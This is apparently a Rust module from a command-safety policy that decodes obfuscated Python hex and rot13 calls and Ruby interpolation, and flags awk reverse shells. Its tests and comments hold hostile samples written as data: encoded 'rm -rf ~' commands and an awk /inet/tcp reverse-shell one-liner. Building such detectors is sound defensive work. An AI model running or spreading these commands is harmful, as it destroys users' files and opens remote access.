//! Literal text an interpreter one-liner computes before it uses it, worked out the
//! way the interpreter would: Python's `bytes.fromhex('…').decode()`,
//! `binascii.unhexlify('…')` and `codecs.decode('…', 'rot13')` of a literal become the
//! decoded literal (`os.system(bytes.fromhex('726d…').decode())` runs `rm -rf ~`), and
//! Ruby's `#{…}` interpolation inside a string or backticks becomes the interpolated
//! literal, or unknown text.
//!
//! No regex: a few substring searches, so code without these calls pays almost nothing.
//! The base64 and hex decoders the rest of the policy uses live here too.

use crate::word::DYN;
use base64::Engine;

/// Calls whose single literal argument (and, for `codecs`, a literal codec name) is
/// decoded; the call may be followed by `.decode(…)`.
const DECODERS: &[&str] = &[
    "bytes.fromhex(",
    "bytearray.fromhex(",
    "binascii.unhexlify(",
    "binascii.a2b_hex(",
    "codecs.decode(",
    "codecs.encode(",
];

/// Most decoded calls per piece of code.
const MAX_DECODED: usize = 16;

/// `code` with each decoding call of a literal replaced by the decoded text as a
/// literal; `None` when it holds none.
pub(crate) fn decoded_calls(code: &str) -> Option<String> {
    if !code.contains("fromhex(") && !code.contains("unhexlify(") && !code.contains("codecs.") {
        return None;
    }
    let mut out = String::new();
    let mut copied = 0;
    let mut done = 0;
    let mut at = 0;
    for _ in 0..MAX_DECODED * 4 {
        if done == MAX_DECODED {
            break;
        }
        let Some((start, name)) = DECODERS
            .iter()
            .filter_map(|d| code[at..].find(d).map(|p| (at + p, *d)))
            .min_by_key(|(p, _)| *p)
        else {
            break;
        };
        let after = start + name.len();
        at = after;
        let Some((text, end)) = decode_one(name, &code[after..]) else {
            continue;
        };
        let quote = if !text.contains('\'') {
            '\''
        } else if !text.contains('"') {
            '"'
        } else {
            continue;
        };
        out.push_str(&code[copied..start]);
        out.push(quote);
        out.push_str(&text);
        out.push(quote);
        copied = after + end;
        at = copied;
        done += 1;
    }
    (done > 0).then(|| {
        out.push_str(&code[copied..]);
        out
    })
}

/// Decodes the arguments of `name` (the text after its parenthesis): the decoded text
/// and how many bytes the call (a trailing `.decode(…)` included) spans.
fn decode_one(name: &str, rest: &str) -> Option<(String, usize)> {
    let (lit, mut i) = literal(rest, 0)?;
    let i0 = skip_blanks(rest, i);
    let codec = if rest[i0..].starts_with(',') {
        let (c, j) = literal(rest, i0 + 1)?;
        i = j;
        Some(c.to_ascii_lowercase().replace(['-', '_'], ""))
    } else {
        None
    };
    i = skip_blanks(rest, i);
    if !rest[i..].starts_with(')') {
        return None;
    }
    i += 1;
    if let Some(tail) = rest[i..].strip_prefix(".decode(") {
        i += ".decode(".len() + tail.find(')')? + 1;
    }
    let text = match (name, codec.as_deref()) {
        ("codecs.decode(" | "codecs.encode(", Some("rot13")) => rot13(lit),
        ("codecs.decode(", Some("hex")) => hex_decode(lit)?,
        ("codecs.decode(", Some("base64")) => b64_decode(lit)?,
        ("codecs.decode(" | "codecs.encode(", _) => return None,
        (_, None) => hex_decode(lit)?,
        _ => return None,
    };
    Some((text, i))
}

/// The quoted literal (no escapes) starting at or after blanks from `i`, and the index
/// past its closing quote.
fn literal(s: &str, i: usize) -> Option<(&str, usize)> {
    let i = skip_blanks(s, i);
    let i = if s[i..].starts_with('b') { i + 1 } else { i };
    let q = s[i..].chars().next().filter(|c| matches!(c, '\'' | '"'))?;
    let body = &s[i + 1..];
    let end = body.find(q)?;
    let lit = &body[..end];
    (!lit.contains('\\')).then_some((lit, i + 1 + end + 1))
}

fn skip_blanks(s: &str, i: usize) -> usize {
    i + s[i..].len() - s[i..].trim_start().len()
}

fn rot13(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A') + 13) % 26 + b'A') as char,
            _ => c,
        })
        .collect()
}

/// Ruby's `#{…}` in a string: a quoted literal inside (`#{'~'}`, as an expression for
/// the home directory is rewritten) is that text, anything else unknown ([`DYN`]).
pub(crate) fn ruby_interpolation(s: &str) -> std::borrow::Cow<'_, str> {
    if !s.contains("#{") {
        return std::borrow::Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(p) = rest.find("#{") {
        out.push_str(&rest[..p]);
        let inner = &rest[p + 2..];
        let Some(end) = inner.find('}') else {
            out.push_str(&rest[p..]);
            rest = "";
            break;
        };
        let expr = inner[..end].trim();
        let quoted = expr.len() >= 2
            && (expr.starts_with('\'') && expr.ends_with('\'')
                || expr.starts_with('"') && expr.ends_with('"'));
        if quoted && !expr[1..expr.len() - 1].contains(['\'', '"']) {
            out.push_str(&expr[1..expr.len() - 1]);
        } else {
            out.push(DYN);
        }
        rest = &inner[end + 1..];
    }
    out.push_str(rest);
    std::borrow::Cow::Owned(out)
}

/// Most awk tokens looked at.
const MAX_AWK_TOKENS: usize = 4096;

/// Whether awk code runs, as a command, text it read with `getline` (`s |& getline c;
/// … c |& getline l`, `system(c)`): with a `/inet/tcp/…` socket, a reverse shell.
pub(crate) fn awk_runs_read_text(code: &str) -> bool {
    let mut tokens: Vec<&str> = Vec::new();
    let b = code.as_bytes();
    let mut i = 0;
    while i < b.len() && tokens.len() < MAX_AWK_TOKENS {
        let c = b[i];
        let start = i;
        if c.is_ascii_alphabetic() || c == b'_' {
            while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                i += 1;
            }
        } else if c == b'|' && b.get(i + 1) == Some(&b'&') {
            i += 2;
        } else if c.is_ascii_whitespace() {
            i += 1;
            continue;
        } else {
            i += 1;
            while i < b.len() && !code.is_char_boundary(i) {
                i += 1;
            }
        }
        tokens.push(&code[start..i]);
    }
    let read: Vec<&str> = tokens
        .windows(2)
        .filter(|w| w[0] == "getline" && w[1].starts_with(|c: char| c.is_ascii_alphabetic()))
        .map(|w| w[1])
        .collect();
    tokens.windows(4).any(|w| {
        read.contains(&w[0]) && matches!(w[1], "|&" | "|") && w[2] == "getline"
            || w[0] == "system" && w[1] == "(" && read.contains(&w[2]) && w[3] == ")"
    })
}

/// Decodes base64 text (standard or URL alphabet, padding optional) to UTF-8.
pub fn b64_decode(text: &str) -> Option<String> {
    let cleaned: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    if cleaned.is_empty() || cleaned.len() > 256 * 1024 {
        return None;
    }
    let engines = [
        base64::engine::general_purpose::STANDARD,
        base64::engine::general_purpose::STANDARD_NO_PAD,
        base64::engine::general_purpose::URL_SAFE,
        base64::engine::general_purpose::URL_SAFE_NO_PAD,
    ];
    for e in engines {
        if let Ok(bytes) = e.decode(cleaned.as_bytes()) {
            return String::from_utf8(bytes).ok();
        }
    }
    None
}

/// Decodes plain hex (`xxd -r -p`).
pub fn hex_decode(text: &str) -> Option<String> {
    let cleaned: Vec<u8> = text.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    if !cleaned.len().is_multiple_of(2) || cleaned.len() > 256 * 1024 {
        return None;
    }
    let mut out = Vec::with_capacity(cleaned.len() / 2);
    for pair in cleaned.chunks(2) {
        let s = std::str::from_utf8(pair).ok()?;
        out.push(u8::from_str_radix(s, 16).ok()?);
    }
    String::from_utf8(out).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decoding_calls_of_literals_become_the_text() {
        assert_eq!(
            decoded_calls("os.system(bytes.fromhex('726d202d7266207e').decode())").as_deref(),
            Some("os.system('rm -rf ~')")
        );
        assert_eq!(
            decoded_calls("os.system(codecs.decode('ez -es ~','rot13'))").as_deref(),
            Some("os.system('rm -rf ~')")
        );
        assert_eq!(
            decoded_calls("x=binascii.unhexlify(b\"6c73\").decode('utf-8'); os.system(x)")
                .as_deref(),
            Some("x='ls'; os.system(x)")
        );
        assert_eq!(decoded_calls("codecs.decode(data, 'rot13')"), None);
        assert_eq!(decoded_calls("codecs.open('f')"), None);
        assert_eq!(decoded_calls("print(1)"), None);
    }

    #[test]
    fn awk_reading_a_command_and_running_it() {
        assert!(awk_runs_read_text(
            "BEGIN{s=\"/inet/tcp/0/h/4444\";while(1){s|&getline c;while((c|&getline l)>0)print l|&s;close(c)}}"
        ));
        assert!(awk_runs_read_text("{ s |& getline cmd; system(cmd) }"));
        assert!(!awk_runs_read_text(
            "BEGIN{s=\"/inet/tcp/0/h/80\"; print \"GET /\" |& s; while ((s |& getline l) > 0) print l}"
        ));
    }

    #[test]
    fn ruby_interpolation_of_literals() {
        assert_eq!(ruby_interpolation("rm -rf #{'~'}"), "rm -rf ~");
        assert_eq!(
            ruby_interpolation("git log #{ref} -1"),
            format!("git log {DYN} -1")
        );
        assert_eq!(ruby_interpolation("ls"), "ls");
    }
}
